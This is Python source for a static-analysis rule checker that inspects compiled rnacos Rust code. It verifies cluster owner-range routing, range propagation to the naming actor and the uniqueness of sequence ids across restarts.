        valid_closures = [c.name for c in tree[1:] if c.calls(r'ClusterInnerNode::is_valid$')]
        ck.require(len(valid_closures) >= 1, 'R14a', 'get_current_process_range:filters-valid', g.where(), 'the owner range is not computed over the valid nodes')

        def filtered(t):
            f = t.get('f') or {}
            return bool(re.search(r'Iterator>::filter|Iterator::filter', f.get('d', '') + f.get('full', '')))
        tf = Taint(g, call_src=filtered)
        ti = Taint(g, place_src=field_place_src('index'), call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('get_this_node'))
        for s in news:
            a0 = cfg.describe_operand(g, s.args[0])
            a1 = cfg.describe_operand(g, s.args[1])
            if a0['k'] == 'const' and a1['k'] == 'const':
                ck.ok('R14a', 'get_current_process_range:empty-cluster', s.where(), 'ProcessRange::new(0,1) for an empty node list')
                continue
            ck.require(tf.op_tainted(s.args[1]), 'R14a', 'get_current_process_range:len-over-valid', s.where(), 'the modulus is not the number of valid nodes')
            ck.require(tf.op_tainted(s.args[0]), 'R14a', 'get_current_process_range:same-population', s.where(),
                       'the position passed to ProcessRange::new is not computed over the valid nodes (it is %s): when a node with a smaller id is down, '
                       'a residue class has no owner and the router sends writes to a node that does not consider itself the owner' % cfg.fmt_desc(cfg.strip_calls(g, a0)))
        # position looks for the local id
        pos = [c for c in tree[1:] if 'local_id' in util.read_fields(c) or any(u['n'] == 'self' for u in c.rec.get('upvars', []))]
        ck.require(len(g.calls(r'Iterator>::position$|Iterator::position')) >= 1, 'R14a', 'get_current_process_range:position-of-local', g.where(), 'the position is not that of the local node')
    r = fb.main(NM + 'NodeManage::route_addr') if fb.has(NM + 'NodeManage::route_addr') else None
    if r is None:
        ck.body(NM + 'NodeManage::route_addr', 'R14a')
    else:
        ck.analysed(r)
        gv = r.calls(r'NodeManage::get_all_valid_nodes$')
        ck.require(len(gv) >= 1, 'R14a', 'route_addr:valid-nodes', r.where(), 'route_addr does not route over the valid nodes')
        rem = [st for (i, j, st) in r.stmts() if st.get('rv', {}).get('k') == 'bin' and st['rv']['op'] == 'Rem']
        ck.require(len(rem) >= 1, 'R14a', 'route_addr:hash-mod-len', r.where(), 'route_addr does not compute hash % len')
        if rem and gv:
            t = Taint(r, local_src=[gv[0].dst] if isinstance(gv[0].dst, int) else [])
            th = Taint(r, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('Hasher::finish'))
            ck.require(t.op_tainted(rem[0]['rv']['b']) and th.op_tainted(rem[0]['rv']['a']), 'R14a', 'route_addr:operands', r.where(), 'route_addr does not take finish() % valid_nodes.len()')
            ge = r.calls(r'get$')
            ck.require(any(t.op_tainted(s.args[0]) for s in ge), 'R14a', 'route_addr:picks-from-valid', r.where(), 'the routed node is not picked from the valid list by that index')
    v = fb.main(NM + 'NodeManage::get_all_valid_nodes') if fb.has(NM + 'NodeManage::get_all_valid_nodes') else None
    if v:
        cl = fb.tree(NM + 'NodeManage::get_all_valid_nodes')
        ok = any('status' in util.read_fields(c) for c in cl)
        ck.require(ok, 'R14a', 'get_all_valid_nodes:filters-status', v.where(), 'get_all_valid_nodes does not filter on status == Valid')
    ga = ck.body(INM + 'get_all_nodes', 'R14a')
    if ga:
        vs = ga.calls(r'BTreeMap::<K, V, A>::values$')
        ck.require(len(vs) == 1 and util.recv_fields(ga, vs[0])[-1:] == ['all_nodes'], 'R14a', 'get_all_nodes:id-order', ga.where(), 'the node list is not all_nodes.values() (id order)')
    iv = ck.body(NM + 'ClusterInnerNode::is_valid', 'R14a')
    if iv:
        ck.require({'is_local', 'status'} <= util.read_fields(iv), 'R14a', 'is_valid:inputs', iv.where(), 'is_valid no longer reads is_local and status')
    ck.rule('R14b', 'same hash: route_addr and get_hash_value both use DefaultHasher::new, <T as Hash>::hash, Hasher::finish')
    hv = [b for b in fb.find(r'get_hash_value$') if not b.parent]
    ck.require(len(hv) >= 1, 'R14b', 'get_hash_value:exists', '-', 'get_hash_value not found')
    for b in hv + ([r] if r else []):
        ck.analysed(b)
        ok = len(b.calls(r'DefaultHasher::new$')) == 1 and len(b.calls(r'std::hash::Hash::hash$')) == 1 and len(b.calls(r'Hasher::finish$|Hasher>::finish$')) == 1
        ck.require(ok, 'R14b', '%s:hasher' % b.name.split('::')[-2 if b.parent else -1], b.where(), '%s does not hash with DefaultHasher/Hash::hash/finish' % b.name)
    ck.rule('R14c', 'ProcessRange::is_range == (len < 2 || hash % len == index), exhaustive over len 0..4, index 0..4, hash 0..11')
    ir = ck.body(PR + 'is_range', 'R14c')
    if ir:
        allok = True
        for hval in range(0, 12):
            def orc(a, hval=hval):
                return a['self.len'] < 2 or (hval % a['self.len']) == a['self.index']
            check_table(ck, fb, 'R14c', 'is_range:hash=%d' % hval, ir, lambda hval=hval: [Ref(obj=SymObj('self')), BV.const(64, hval)], orc,
                        domains={'usize': [0, 1, 2, 3, 4]}, all_atoms={'self.len': [0, 1, 2, 3, 4], 'self.index': [0, 1, 2, 3, 4]})
    ck.rule('R14d', 'range refresh: check_node_status and update_nodes call update_process_range after changing status / the node list; '
                    'update_process_range stores get_current_process_range(); a node-list change sends ClusterRefreshProcessRange')
    def recompute_sites(b):
        # a direct update_process_range, or a helper of the same impl whose region contains one
        out = list(b.calls(re.escape(INM + 'update_process_range') + '$'))
        for s0 in b.sites:
            t = util._local_target(b, s0)
            if t is not None and t.name.startswith(INM) and t.name != INM + 'update_process_range' and \
                    any(x.calls(re.escape(INM + 'update_process_range') + '$') for x in util.region(fb, t, 2)):
                out.append(s0)
        return out
    n_mut = 0
    methods = sorted([x for x in fb.find('^' + re.escape(INM)) if not x.parent], key=lambda x: x.name)

    def direct_muts(b):
        return [s0.bb for s0 in util.mut_calls_on_field(b, 'all_nodes', r'BTreeMap::<K, V, A>::(insert|remove|entry|retain)$')] + \
               [bb for (o, f, bb, st) in b.field_writes() if f == 'status' and o.endswith('ClusterInnerNode')]
    mutators = {b.name for b in methods if direct_muts(b) and b.name.split('::')[-1] not in ('new', 'get_this_node')}
    # a private helper that changes the node list for its caller (extract-method) is judged at its call sites: it is exempt from its own
    # obligation when it is only called by methods of InnerNodeManage, and a call of it counts as a change in the caller
    callers = {}
    for b in methods:
        for s0 in b.sites:
            t = util._local_target(b, s0)
            if t is not None and t.name in mutators and t.name != b.name:
                callers.setdefault(t.name, []).append((b, s0))
    for b in methods:
        fn = b.name.split('::')[-1]
        muts = [s0.bb for s0 in util.mut_calls_on_field(b, 'all_nodes', r'BTreeMap::<K, V, A>::(insert|remove|entry|retain)$')]
        stw = [bb for (o, f, bb, st) in b.field_writes() if f == 'status' and o.endswith('ClusterInnerNode')]
        muts += [s0.bb for s0 in b.sites if (util._local_target(b, s0) is not None and util._local_target(b, s0).name in callers
                                             and util._local_target(b, s0).name != b.name)]
        if fn in ('new', 'get_this_node') or not (muts or stw):
            continue
        if b.name in callers and not any(b.name in (s1.resolved or s1.callee or '') for x in fb.bodies.values() if not x.name.startswith(INM) for s1 in x.sites):
            ck.ok('R14d', '%s:helper-judged-at-call-sites' % fn, b.where(), 'called by %s' % sorted(set(c[0].name.split('::')[-1] for c in callers[b.name])))
            continue
        n_mut += 1
        ck.analysed(b)
        up = recompute_sites(b)
        ok = bool(up) and all(cfg.must_pass_before_return(b, m, {s0.bb for s0 in up}) for m in muts + stw)
        ck.require(ok, 'R14d', '%s:refreshes-range' % fn, b.where((muts + stw)[0]),
                   '%s changes the node list / the liveness status of a node and can return without recomputing the owner range: route_addr counts the '
                   'node at once (it reads the status), the owner range follows at the next 3 s tick at best - and not at all when an UpdateNodes with '
                   'the same member list arrives first (cluster {1,2,3}, node 1 times out and answers again: 58 of 300 services have no owner, 92 have two)' % fn,
                   'range recomputed before returning')
    ck.floor('R14d', 'methods that change the node list or a status', n_mut, 3)
    ur = ck.body(INM + 'update_process_range', 'R14d')
    if ur:
        gc = ur.calls(re.escape(INM + 'get_current_process_range') + '$')
        w = [(bb, s) for (o, f, bb, s) in ur.field_writes() if f == 'current_range']
        ck.require(len(gc) == 1 and len(w) == 1, 'R14d', 'update_process_range:stores', ur.where(), 'the recomputed range is not stored')
        ck.rule('R14i', 'the cached owner range is kept only when it EQUALS the range computed from the current node set: in update_process_range every '
                        'path from the entry to a return passes get_current_process_range(), and a path that leaves current_range as it is passes a '
                        'comparison of the fresh range with it. A shortcut on anything weaker (the number of valid nodes, a dirty flag that is not set '
                        'by every change) keeps a stale range when the valid SET changes and its size does not - {1,2,3} -> {2,3,4}: the local position '
                        'moves, routing (recomputed per request) and ownership (cached) disagree')
        if gc:
            ck.require(cfg.must_pass_before_return(ur, 0, {s0.bb for s0 in gc}), 'R14i', 'update_process_range:always-recomputes', ur.where(),
                       'update_process_range can return without computing the range from the current node set: the cached range survives a change of '
                       'the valid set that the shortcut does not notice (same count, other members), and route_addr - which recomputes - sends writes '
                       'to a node that does not consider itself the owner', 'no return before get_current_process_range()')
            cmpb = {s0.bb for s0 in ur.calls(r'::(eq|ne)$') if any(Taint(ur, local_src=[g0.dst] if isinstance(g0.dst, int) else []).op_tainted(a) for g0 in gc for a in s0.args)}
            ck.require(bool(cmpb) and cfg.must_pass_before_return(ur, 0, {bb for (bb, s) in w} | cmpb), 'R14i', 'update_process_range:kept-only-if-equal', ur.where(),
                       'update_process_range can leave current_range unchanged without having compared it with the freshly computed range',
                       'unchanged only behind fresh == current')
    ck.rule('R14f', 'one range, two holders: the naming actor keeps its own copy of the owner range (NamingActor.current_range, used for '
                    'at_process_range and to take over instances). Every InnerNodeManage method that recomputes the range '
                    '(update_process_range) can reach refresh_process_range (NamingCmd::ClusterRefreshProcessRange) afterwards, and '
                    'refresh_process_range sends the current range')
    callers = [b for b in fb.find('^' + re.escape(INM)) if not b.parent and b.calls(re.escape(INM + 'update_process_range') + '$')]
    ck.floor('R14f', 'methods that recompute the owner range', len(callers), 2)
    for b in callers:
        fn = b.name.split('::')[-1]
        up = b.calls(re.escape(INM + 'update_process_range') + '$')
        rf = b.calls(re.escape(INM + 'refresh_process_range') + '$')
        ok = bool(rf) and all(any(r.bb in cfg.reach_from(b, [u.bb]) for r in rf) for u in up)
        ck.require(ok, 'R14f', '%s:propagates-range' % fn, b.where(),
                   '%s recomputes InnerNodeManage.current_range but never tells the naming actor: NamingActor.current_range stays what it was, so after a '
                   'node is marked unavailable the survivors route its keys to themselves but do not take the instances over (no heartbeat '
                   'supervision for the services of the dead node)' % fn, 'refresh_process_range reachable after update_process_range')
    # in update_nodes the push is conditional: the condition must become true whenever the node SET changed (a node dropped, a node added),
    # or be a comparison of the ranges themselves; a comparison of node counts misses a membership change that swaps nodes
    un = ck.body(INM + 'update_nodes', 'R14f')
    if un:
        for s0 in un.calls(re.escape(INM + 'refresh_process_range') + '$'):
            flags = [cfg.describe_operand(un, t0['discr']) for (s_, d_, lab_, t0) in cfg.dominating_edges(un, s0.bb)]
            flags = [d for d in flags if d['k'] == 'multi']
            range_cmp = any(a[0] == 'call' and re.search(r'::(ne|eq)$', a[1] or '') for a in cfg.guard_atoms(un, s0.bb))
            if not flags and not range_cmp:
                # `flag || ranges differ`: no single dominating edge; take the switches whose edge enters the push without another decision
                preds = un.pred
                seen_b = set()
                stack = [s0.bb]
                while stack:
                    x = stack.pop()
                    for (pb, _lab) in preds[x]:
                        if pb in seen_b:
                            continue
                        seen_b.add(pb)
                        tt = un.blocks[pb]['t']
                        if tt['k'] == 'switch':
                            d0 = cfg.describe_operand(un, tt['discr'])
                            if d0['k'] == 'multi':
                                flags.append(d0)
                            elif d0['k'] == 'call' and re.search(r'::(ne|eq)$', cfg.callee_name(d0['term']) or ''):
                                range_cmp = True
                        else:
                            stack.append(pb)
            ok = False
            why = 'the push is not conditional on a membership-change flag'
            if range_cmp:
                ok = True       # compares the ranges themselves (alone or as one disjunct)
            for d in flags:
                defs = un.defs.get(d['l'], [])
                on_insert = on_delete = False
                for kind, bb, j, node in defs:
                    if kind == 'call':
                        # a private helper that removes the absent nodes and reports whether it removed any
                        nm = cfg.callee_name(node) or ''
                        hb = fb.bodies.get(nm)
                        if hb is not None and util.mut_calls_on_field(hb, 'all_nodes', r'BTreeMap::<K, V, A>::(remove|retain)$') and hb.local_ty(0) == 'bool':
                            on_delete = True
                        continue
                    if kind != 'stmt':
                        continue
                    rv = node['rv']
                    atoms = cfg.guard_atoms(un, bb)
                    if rv['k'] == 'use' and 'c' in rv['op'] and rv['op']['c'].get('v') in (True, 'true', 1):
                        if any(a[0] == 'variant' and a[2] == 'None' and 'get_mut' in cfg.fmt_desc(a[3]) for a in atoms) or \
                                any(a[0] == 'notvariant' for a in atoms):
                            on_insert = True
                        if any(a[0] == 'call' and (a[1] or '').endswith('contains') and a[2] is False for a in atoms):
                            on_delete = True
                    t = Taint(un, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('Vec::<T, A>::is_empty') or (t.get('f') or {}).get('d', '').endswith('::is_empty'))
                    from rn.facts import rv_operands
                    if any(t.op_tainted(x) for x in rv_operands(rv)):
                        on_delete = True
                ok = ok or (on_insert and on_delete)
                if not ok:
                    why = 'the flag that guards the push is not set by both a node removal (%s) and a node insertion (%s)' % (on_delete, on_insert)
            ck.require(ok, 'R14f', 'update_nodes:push-on-every-set-change', s0.where(),
                       'the naming actor is told the new range only under a condition that does not follow the node SET: %s - a membership change that '
                       'replaces as many nodes as it removes ({1,3,5} -> {1,2,3} seen by node 3) moves the local range while the naming actor keeps '
                       'the old one' % why)
    rp = ck.body(INM + 'refresh_process_range', 'R14f')
    if rp:
        sd = util.sends(rp, r'NamingCmd$', 'ClusterRefreshProcessRange')
        ck.require(len(sd) >= 1 and all(cfg.origin_fields(rp, a['ops'][0])[-1:] == ['current_range'] or Taint(rp, place_src=field_place_src('current_range')).op_tainted(a['ops'][0]) for (s0, m0, v0, a) in sd),
                   'R14f', 'refresh_process_range:sends-current', rp.where(), 'refresh_process_range does not send current_range to the naming actor')
    r14g(ck, fb)
    r14h(ck, fb)
    r14j(ck, fb)
    r14k(ck, fb)
    ck.rule('R14e', 'ownership use: NamingActor::update_instance computes at_process_range = current_range.is_range(get_hash_value(key)) and '
                    'clears from_cluster / client_id only when in range and not gRPC')
    nu = ck.body(NA + 'update_instance', 'R14e')
    if nu:
        irs = nu.calls(re.escape(PR + 'is_range') + '$')
        ck.require(len(irs) >= 1, 'R14e', 'update_instance:is_range', nu.where(), 'ownership is not decided by ProcessRange::is_range')
        for s in irs:
            t = Taint(nu, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('get_hash_value'))
            ck.require(t.op_tainted(s.args[1]) and util.recv_fields(nu, s)[-1:] == ['0'] or t.op_tainted(s.args[1]), 'R14e', 'update_instance:hash-of-key', s.where(), 'is_range is not applied to the hash of the service key')
            hv2 = nu.calls(r'get_hash_value')
            ck.require(len(hv2) >= 1, 'R14e', 'update_instance:get_hash_value', nu.where(), 'get_hash_value not used')


def r14g(ck, fb, R='R14g'):
    ck.rule(R, 'a view change is never dropped on the way: the owner range is pushed to the naming actor, and node / client changes travel between the '
               'cluster actors, with Addr::do_send or an awaited send - never try_send, which refuses the message when the 16-slot mailbox is full '
               '(a busy naming actor then keeps the old range while routing already uses the new one, until some later change)')
    region = [b for b in fb.bodies.values() if b.name.startswith('rnacos::naming::cluster::') or b.name.startswith('<rnacos::naming::cluster::')
              or b.name.startswith('rnacos::naming::core::NamingActor::') or b.name.startswith('<rnacos::naming::core::NamingActor as ')]
    n = 0
    bad = []
    for b in region:
        if '::tests::' in b.name or 'seeded_demo' in b.name:
            continue
        for (s0, msg, v, a) in util.sends(b):
            n += 1
            if s0.callee.endswith('::try_send'):
                bad.append((b, s0, msg, v))
    ck.floor(R, 'actor sends in naming cluster code', n, 30)
    rp = fb.bodies.get(INM + 'refresh_process_range')
    if rp:
        kinds = sorted(set(s0.callee.split('::')[-1] for (s0, m0, v0, a0) in util.sends(rp, r'NamingCmd$', 'ClusterRefreshProcessRange')))
        ck.require(kinds in (['do_send'], ['send']), R, 'refresh_process_range:push-cannot-be-refused', rp.where(),
                   'the owner range is pushed to the naming actor with %s: a refused push leaves NamingActor.current_range behind the range the node manager '
                   'routes with - two nodes consider themselves owner of a service, or none does' % kinds, 'pushed with %s' % kinds)
    for (b, s0, msg, v) in bad:
        if rp is not None and b.name == rp.name:
            continue
        ck.bad(R, 'try_send:%s:%s' % (fb.root_of(b.name), (msg or '').split('::')[-1]), s0.where(),
               '%s hands %s%s to another actor with try_send: the message is refused when the mailbox is full and the cluster view / registry change it carries is lost'
               % (fb.root_of(b.name), msg, ('::' + v) if v else ''))
    if not bad:
        ck.ok(R, 'no-try_send', '', '%d sends, none bounded' % n)


def _variant_of(fb, b, op, depth=0):
    """the enum variant an operand holds when that is decided by literals: an aggregate, or a field of / the result of a Default::default()
    whose implementation builds a literal"""
    if depth > 6:
        return None
    d = cfg.describe_operand(b, op)
    if d['k'] == 'agg' and d['rv'].get('ak') == 'adt':
        return d['rv'].get('variant')
    if d['k'] == 'call':
        nm = cfg.callee_name(d['term']) or ''
        hb = fb.bodies.get(nm)
        if hb is not None and nm.endswith('Default>::default'):
            vs = set(st['rv'].get('variant') for (i, j, st) in hb.aggregates() if st['d'] == 0 or True)
            vs = set(st['rv'].get('variant') for (i, j, st) in hb.aggregates() if (hb.local_ty(0) or '').endswith(st['rv']['adt'].split('::')[-1]))
            return list(vs)[0] if len(vs) == 1 else None
        return None
    if d['k'] == 'place' and d.get('root', {}).get('k') == 'call' and len(d.get('fields', [])) == 1:
        nm = cfg.callee_name(d['root']['term']) or ''
        hb = fb.bodies.get(nm)
        if hb is not None and nm.endswith('Default>::default'):
            for (i, j, st) in hb.aggregates():
                rv = st['rv']
                if d['fields'][0] in rv.get('fields', []):
                    return _variant_of(fb, hb, rv['ops'][rv['fields'].index(d['fields'][0])], depth + 1)
    return None


def r14h(ck, fb, R='R14h'):
    ck.rule(R, 'a node entry starts alive: ownership counts a node through is_valid() (is_local || status == Valid), routing through status == Valid '
               'alone, so the two agree for the local node only while its own entry carries status Valid. Every ClusterInnerNode built in the node '
               'manager (update_nodes for members, get_this_node for the local fallback) has status Valid - written out or through the Default '
               'implementations it relies on. A default of Invalid makes a node that first saw a member list without itself route its own services '
               'to its neighbours for as long as it runs')
    n = 0
    for b in fb.bodies.values():
        if not b.name.startswith(NM) or '::tests::' in b.name or 'seeded_demo' in b.name or b.name.endswith('Default>::default'):
            continue
        for (i, j, st) in b.aggregates(r'node_manage::ClusterInnerNode$'):
            rv = st['rv']
            if 'status' not in rv['fields']:
                continue
            n += 1
            ck.analysed(b)
            v = _variant_of(fb, b, rv['ops'][rv['fields'].index('status')])
            if v is None:
                d = cfg.describe_operand(b, rv['ops'][rv['fields'].index('status')])
                if d['k'] in ('arg', 'place') and not (d.get('root', {}).get('k') == 'call'):
                    ck.ok(R, '%s:status-copied' % fb.root_of(b.name).split('::')[-1], b.where(i), 'status copied from an existing entry')
                    continue
            ck.require(v == 'Valid', R, '%s:new-entry-is-valid' % fb.root_of(b.name).split('::')[-1], b.where(i),
                       '%s builds a node entry with status %s: routing (status == Valid) leaves the node out while ownership (is_local || Valid) counts '
                       'it - for the local entry the node routes the services it owns to other nodes' % (fb.root_of(b.name), v), 'Valid')
    ck.floor(R, 'ClusterInnerNode entries built in the node manager', n, 2)


def r14j(ck, fb, R='R14j'):
    ck.rule(R, '"an HTTP write for a service is routed to precisely the node that considers itself its owner": in NamingRoute::update_instance / '
               'delete_instance the arm for a REMOTE owner hands the write to that node and never applies it to the local naming actor - not as a '
               'fallback either. A write applied locally when the forward fails is held by a node that is not the owner (from_cluster == 0 there): '
               'two nodes supervise and announce the same instance as their own, or - when the owner is really down - nobody was asked to take '
               'over. The failure is the caller\'s to retry')
    NR = 'rnacos::naming::cluster::route::NamingRoute::'
    n = 0
    for fn in ('update_instance', 'delete_instance'):
        b = ck.main(NR + fn, R)
        if not b:
            continue
        sends = util.sends(b, r'naming::core::NamingCmd$')
        local = [(s0, v0) for (s0, m0, v0, a0) in sends if v0 in ('Update', 'Delete', 'UpdateBatch', 'RemoveBatch')]
        n += len(local)
        bad = [(s0, v0) for (s0, v0) in local if any(v == 'Remote' for (adt, v) in util.variant_guards(b, s0.bb))]
        ck.require(not bad, R, '%s:remote-owner-write-not-applied-locally' % fn, (bad[0][0].where() if bad else b.where()),
                   'NamingRoute::%s applies a write whose owner is ANOTHER node to the local naming actor (NamingCmd::%s in the Remote arm): the '
                   'instance is held - supervised, announced - by a node that does not own the service' % (fn, bad[0][1] if bad else ''),
                   'local application only in the Local arm')
    ck.floor(R, 'local applications of a routed write', n, 2)


def r14k(ck, fb, R='R14k'):
    ck.rule(R, '"each service key is owned by exactly one live node": a node that has not been told its range yet owns nothing that reaches it through a '
               'peer. In NamingActor::update_instance, with current_range == None, the assignment that makes an instance this node\'s own '
               '(from_cluster = 0) is unreachable. A node that has just (re)started receives forwarded instances before its node manager has pushed '
               'the first range: "no range = I manage everything" makes it keep instances of services another live node owns - two owners, and the one '
               'no heartbeat is routed to expires the instance')
    from rules.c13 import own_reset_walk
    for fs in (False, True):
        w = own_reset_walk(fb, {'range': 'None', 'from_grpc': False, 'from_sync': fs})
        if w is None:
            ck.body(NA + 'update_instance', R)
            return
        b, resets, r, esc = w
        hit = sorted(resets & r)
        ck.require(not hit, R, 'update_instance:no-range-owns-nothing:from_sync=%s' % fs, b.where(hit[0]) if hit else b.where(),
                   'without an assigned range update_instance can make an instance this node\'s own (from_sync=%s): a forwarded HTTP instance of a service '
                   'owned by another live node is kept as local - both nodes consider themselves the owner' % fs, 'unreachable')
