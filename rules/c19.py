"""C19 Issued sequence ids are unique and increasing across restarts and nodes."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.facts import rv_operands
from rn.absint import Interp, BV, Adt, Ref, SymObj, Env, Opaque, Undecided, Unsupported, Panic
from . import c07

SU = 'rnacos::common::sequence_utils::SimpleSequence::'
CA = 'rnacos::config::core::ConfigActor::'
SD = 'rnacos::sequence::core::SequenceDbManager::'
RAFT_H = '<rnacos::config::core::ConfigActor as actix::Handler<rnacos::config::model::ConfigRaftCmd>>::handle'
ASYNC_H = '<rnacos::config::core::ConfigActor as actix::Handler<rnacos::config::core::ConfigAsyncCmd>>::handle'
CMD_H = '<rnacos::config::core::ConfigActor as actix::Handler<rnacos::config::core::ConfigCmd>>::handle'


def run(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of "ids are never reissued": (a) the replicated high-water marks reach the sequence on every apply '
        'path: ConfigSet.history_table_id -> SetConfigParam -> set_valid_last_id, ConfigFullValue.last_seq_id -> set_valid_last_id, snapshot '
        'SEQ_KEY_CONFIG -> InnerSetLastId -> set_last_id (the three dispatch copies agree, C07); (b) the snapshot stores the reserved end '
        '(get_end_id) of the config sequence and the next-free values of the named sequences, and the loader stores them back under the '
        'same key; (c) history ids have a single source (next_state) and named ids come from next_id/next_range; (d) next_state reserves a '
        'batch before issuing from it, set_valid_last_id never lowers the mark, get_end_id = last_id + cache_size - checked by exhaustive '
        'small-domain interpretation of the compiled functions.')
    ck.undecided = 'Does not decide uniqueness arithmetic across nodes/restarts for arbitrary interleavings.'
    r19a(ck, fb)
    r19b(ck, fb)
    r19c(ck, fb)
    r19d(ck, fb)
    r19e(ck, fb)
    r19f(ck, fb)
    r19j(ck, fb)
    r19k(ck, fb)
    r19g(ck, fb)
    r19h(ck, fb)
    r19i(ck, fb)


def r19a(ck, fb):
    ck.rule('R19a', 'high-water marks reach the sequence: set_config calls set_valid_last_id(param.history_table_id) before anything else; '
                    'ConfigRaftCmd::ConfigAdd passes history_id/history_table_id into SetConfigParam; SetFullValue arm calls '
                    'set_valid_last_id(last_id); ConfigCmd::InnerSetLastId calls set_last_id; all three dispatch copies forward the fields')
    sc = ck.body(CA + 'set_config', 'R19a')
    if sc:
        # deep: a private helper of the actor that makes the call counts as the site (its call in set_config is the proxy)
        sv = util.mut_calls_on_field(sc, 'sequence', re.escape(SU + 'set_valid_last_id') + '$', deep=2)
        ck.require(len(sv) >= 1, 'R19a', 'set_config:set_valid_last_id', sc.where(), 'set_config no longer raises the sequence to the replicated high-water mark')
        for s in sv:
            t = Taint(sc, place_src=field_place_src('history_table_id'))
            ck.require(any(t.op_tainted(a) for a in s.args[1:]), 'R19a', 'set_config:mark<-history_table_id', s.where(), 'the mark is not param.history_table_id')
            # it happens before the unchanged-content early return: it dominates every return except via its own None-branch
            first_cache = [x for x in sc.calls(r'HashMap::<K, V, S, A>::get_mut$')]
            ck.require(bool(first_cache) and all(s.bb in cfg.reach_to(sc, [x.bb]) for x in first_cache), 'R19a', 'set_config:mark-first', s.where(),
                       'the high-water mark is applied after the cache lookup (skipped by the unchanged-content return)')
    h = ck.body(RAFT_H, 'R19a')
    if h:
        agg = h.aggregates(r'config::model::SetConfigParam$')
        ck.require(len(agg) >= 1, 'R19a', 'ConfigAdd:SetConfigParam', h.where(), 'SetConfigParam not built')
        for (i, j, st) in agg:
            rv = st['rv']
            for f in ('history_id', 'history_table_id', 'value', 'op_time'):
                c = c07.canon(h, rv['ops'][rv['fields'].index(f)])
                ck.require(c.endswith('.' + f), 'R19a', 'ConfigAdd:%s' % f, h.where(i), 'SetConfigParam.%s <- %s (expected the same-named field of ConfigAdd)' % (f, c), c)
        sv = util.mut_calls_on_field(h, 'sequence', re.escape(SU + 'set_valid_last_id') + '$', deep=2)
        ok = False
        for s in sv:
            if ('rnacos::config::model::ConfigRaftCmd', 'SetFullValue') in util.variant_guards(h, s.bb):
                t = Taint(h, place_src=field_place_src('last_id'))
                ok = any(t.op_tainted(a) for a in s.args[1:])
        ck.require(ok, 'R19a', 'SetFullValue:set_valid_last_id(last_id)', h.where(), 'a full-value import does not raise the sequence to its last_id')
    c = ck.body(CMD_H, 'R19a')
    if c:
        sl = util.mut_calls_on_field(c, 'sequence', re.escape(SU + 'set_last_id') + '$')
        ok = any(('rnacos::config::core::ConfigCmd', 'InnerSetLastId') in util.variant_guards(c, s.bb) for s in sl)
        ck.require(ok, 'R19a', 'InnerSetLastId:set_last_id', c.where(), 'the snapshot value of the config sequence is not restored by set_last_id')
    # dispatch copies forward the marks (normal forms from C07)
    for fn in c07.FNS:
        if not fb.has(c07.RD + fn):
            ck.body(c07.RD + fn, 'R19a')
            continue
        sub = type(ck)(ck.prop, fb, write=False)
        b, forms = c07.normal_forms(sub, fb, fn)
        cs = forms.get('ConfigSet', [])
        fv = forms.get('ConfigFullValue', [])
        okc = len(cs) == 1 and dict(cs[0][3]).get('history_table_id', '').endswith('history_table_id') and dict(cs[0][3]).get('history_id', '').endswith('history_id')
        okf = len(fv) == 1 and dict(fv[0][3]).get('last_id', '').endswith('last_seq_id')
        ck.require(okc, 'R19a', '%s:ConfigSet-forwards-marks' % fn, b.where(), '%s does not forward history_id/history_table_id' % fn)
        ck.require(okf, 'R19a', '%s:ConfigFullValue-forwards-last_seq_id' % fn, b.where(), '%s does not forward last_seq_id' % fn)


def r19b(ck, fb):
    ck.rule('R19b', 'the snapshot stores the reserved end, not the last issued id: ConfigActor::build_snapshot writes id_to_bin(sequence.'
                    'get_end_id()) under SEQ_KEY_CONFIG; SequenceDbManager snapshots seq_map values (next free) and load_snapshot_record '
                    'inserts the decoded value under the record key')
    b = ck.body(CA + 'build_snapshot', 'R19b')
    if b:
        ge = util.mut_calls_on_field(b, 'sequence', re.escape(SU + 'get_end_id') + '$')
        ib = b.calls(r'byte_utils::id_to_bin$')
        ok = False
        for s in ib:
            t = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('SimpleSequence::get_end_id'))
            if t.op_tainted(s.args[0]):
                ok = True
        ck.require(bool(ge) and ok, 'R19b', 'config:snapshot-stores-get_end_id', b.where(),
                   'the config sequence is snapshotted without its reserved batch (ids issued before the restart could be issued again)')
    s1 = ck.body(SD + 'build_snapshot', 'R19b')
    if s1:
        t = Taint(s1, place_src=field_place_src('seq_map'))
        ib = s1.calls(r'byte_utils::id_to_bin$')
        ck.require(len(ib) >= 1 and all(t.op_tainted(_x.args[0]) for _x in ib), 'R19b', 'sequence:snapshot-stores-next-free', s1.where(), 'named sequences are not snapshotted from seq_map values')
    s2 = ck.body(SD + 'load_snapshot_record', 'R19b')
    if s2:
        ins = util.mut_calls_on_field(s2, 'seq_map', r'HashMap::<K, V, S, A>::insert$')
        ck.require(len(ins) >= 1, 'R19b', 'sequence:load-inserts', s2.where(), 'snapshot record is not inserted into seq_map')
        for s in ins:
            tk = Taint(s2, place_src=field_place_src('key'))
            tv = Taint(s2, place_src=field_place_src('value'))
            ck.require(tk.op_tainted(s.args[1]) and tv.op_tainted(s.args[2]) and not tk.op_tainted(s.args[2]), 'R19b', 'sequence:load-key-value', s.where(),
                       'seq_map entry is not (record.key -> decoded record.value)')


def r19c(ck, fb):
    ck.rule('R19c', 'single source of ids: ClientRequest::ConfigSet.history_id / history_table_id in Handler<ConfigAsyncCmd> come from '
                    'SimpleSequence::next_state; SequenceRaftResult::NextId / NextRange.start come from next_id / next_range; next_id and '
                    'next_range return the old value and advance the stored one')
    if fb.has(ASYNC_H):
        outer = fb.get(ASYNC_H)
        ck.analysed(outer)
        ns = util.mut_calls_on_field(outer, 'sequence', re.escape(SU + 'next_state') + '$')
        ck.require(len(ns) == 1, 'R19c', 'ConfigAsyncCmd:next_state', outer.where(), 'history ids are not drawn from next_state (exactly once per Add)')
        # the value captured into the async block is the next_state result
        if ns:
            t = Taint(outer, local_src=[ns[0].dst] if isinstance(ns[0].dst, int) else [])
            cap = [st for (i, j, st, d) in outer.closures_created()]
            ck.require(any(t.op_tainted(o) for st in cap for o in st['rv']['ops']), 'R19c', 'ConfigAsyncCmd:captures-next_state', outer.where(),
                       'the async block does not capture the next_state result')
            # only for Add: guarded by the Add variant test
            vg = util.variant_guards(outer, ns[0].bb)
